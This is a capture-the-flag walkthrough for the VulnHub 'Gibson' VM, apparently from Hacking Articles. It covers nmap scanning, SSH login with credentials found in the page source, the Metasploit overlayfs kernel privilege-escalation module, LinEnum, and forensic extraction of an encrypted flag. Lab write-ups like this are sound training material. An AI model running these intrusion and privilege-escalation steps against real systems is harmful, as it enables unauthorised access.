CTF Challenges

Hack the Gibson VM (CTF Challenge)Hello friends!! Welcome to our next CTF challenge of the vulnhub called “Gibson” which is a boot to root challenge with the ultimate goal to get the Flag and finish the task. This VM is designed to test your penetration testing skills by spawning the root shell of this machine which is weak configured and the author has asked to find the hidden flag through privilege escalation. You can download it from the given below link. I found this lab more interesting as it has involved cyber forensic in it to get the final flag.

Download it from here: https://www.vulnhub.com/entry/gibson-02,146/

Penetration Methodology

  • Network Scanning (Netdiscover, Nmap)
  • Abusing HTTP service for username & password
  • Spawning Pty shell SSH (Metasploit)
  • Privilege Escalation via Kernel exploit
  • Uploading LinEnum script
  • Obtain disk image
  • Forensic Analysis for extracting hidden flag.img
  • Decrypt GPG encrypted file using leet encoded value
  • Capture the Flag

Let’s start off with scanning the network to find our targets IP.


As our target IP is, now move to network enumeration and for this, we are going to scan network IP using nmap which will show all the open ports.

nmap -A

In this case, open ports are only twoi.e. 22 and 80 moreover it has found an html file.

As from the above result, we have got 80 port open so we will open target IP in a browser.

It shows an accessible html page. But when we try to open it, we cannot see any crucial information here. It’s written the result will be found by brute force but there is no place where we can apply brute force.

As we do not have any other option so let’s just go to page source code to see if we could get any clue to move further in our task.

Ohhh!! Great, there is something which is connecting to username and password, as per my prediction here god could be the possible password and margo could be the username.

Now from our nmap result, we saw port 22 open for ssh login. So let’s try to login into ssh using above found credential and for this, we will be taking help of Metasploit framework. By using the following module we can gain meterpreter session, once get successfully exploit.

use auxiliary/scanner/ssh/ssh_loginmsf auxiliary(scanner/ssh/ssh_login) >set rhosts
msf auxiliary(scanner/ssh/ssh_login) >set username margo
msf auxiliary(scanner/ssh/ssh_login) >set password god
msf auxiliary(scanner/ssh/ssh_login) >exploit

Hmm!! That’s great we have compromised the target machine, and you will love to see that the default opened session is command shell session and further we had upgrade into meterpreter session. And then run the “sysinfo” command to identifysystem architecture.

As it was Ubuntu 14.04 (Linux 3.19.0-25-generic) so I search in Google for its kernel exploit for privilege escalation.

Luckily, I found this kernel was badly affected by Overlayfs – A Local Privilege Escalation. Superb the Metasploit has an in-built module for this exploit.

use exploit/linux/local/overlayfs_priv_esc
msf exploit(linux/local/overlayfs_priv_esc) > set session 1
msf exploit(linux/local/overlayfs_priv_esc) > set lhost
msf exploit(linux/local/overlayfs_priv_esc) > exploit

Here again you will love to see that the default opened session is command shell session and further, we had upgrade into meterpreter session.

sessions -u 3

Now let’s upload LinEnum which is a scripted Local Linux Enumeration & Privilege Escalation Checks Shellscript that enumerates the system configuration and high-level summary of the checks/tasks performed by LinEnum.

To more about LinEnum script visit given below link:upload /root/pentest/privs/LinEnum.sh .
chmod 777 LinEnum.sh

Here we get some interesting file which is highlighted in the below image. It shows some external server is running.

Now from the process list, we see something like ftpserv so we can just search for a file based on that.

find / -name ftpserv*

Awesome it gives us “ftpserv.img” file which can prove to be a useful thing, let’s download it in our local machine with the help of the following command.

download /var/lib/libvirt/images/ftpserv.img /root/Desktop/

So let’s check out what type of file it is?  With the help of file command, it shown the complete detail of the image file and hence by this, we came to know that this image file belongs to partition boot sector that contains all information of file system uses to access the volume.

Now let’s find out the partition table of the device along with give sizes in the sector with the help of the following command

fdisk -lu ftpserv.img

Wonderful! It is a FAT16 file system and as we have entered into forensic phase, therefore you should have a little knowledge of cyber forensics. So we are going use Sleuth kit which is a command line forensic analysis tool kit to extract List file and directory names from this imagewith the help of the following command.

fls -f fat16 -o 63 ftpserv.img

Hmmm!! Here I found something very interesting a “garbage” folder, let’s explore this by executing below command.

fls -f fat16 -o 63 ftpserv.img 12

Awesome!! It was good to see an image file “flag.img” along with its inode number. An inode number holds metadata and I’m pretty sure that we will tack that information from inside the flag.img. Let’s extract all content of ftpserv.img in flag.img and then mount it.

icat -f fat16 -o 63 ftpserv.img 845580 > flag.img
mount flag.img /mnt
cd /mnt

Booom!! Here I saw the very interesting file “hint.txt” which is holding two links.

So when I visit both links then I found “johnny lee miller” is a common character in both links and in hacker movie he is called by “Zero Cool”.

Then we explored more and found the hidden directory /.trash which holds an encrypted file flag.txt.gpg but “zero Cool” wasn’t the correct passphrase and it took an almost whole day to decrypt it.

At last I thought from the hacker’s vision and encode the “zero Cool” into the leet function but unfortunately, I was unable to decrypt the encrypted file with the help of Z3r0C00l.

But finally, obtain the correct passphrase Z3r0K00l by replacing C alphabet from K and execute the following command to decrypt gpg encryption.

gpg --passphrase Z3r0K00l flag.txt.gpg

Hurray!! We successfully decrypted the file and obtain the flag.txt file.

Author: Aarti Singh is a Researcher and Technical Writer at Hacking Articles anInformation Security Consultant Social Media Loverand Gadgets. Contact here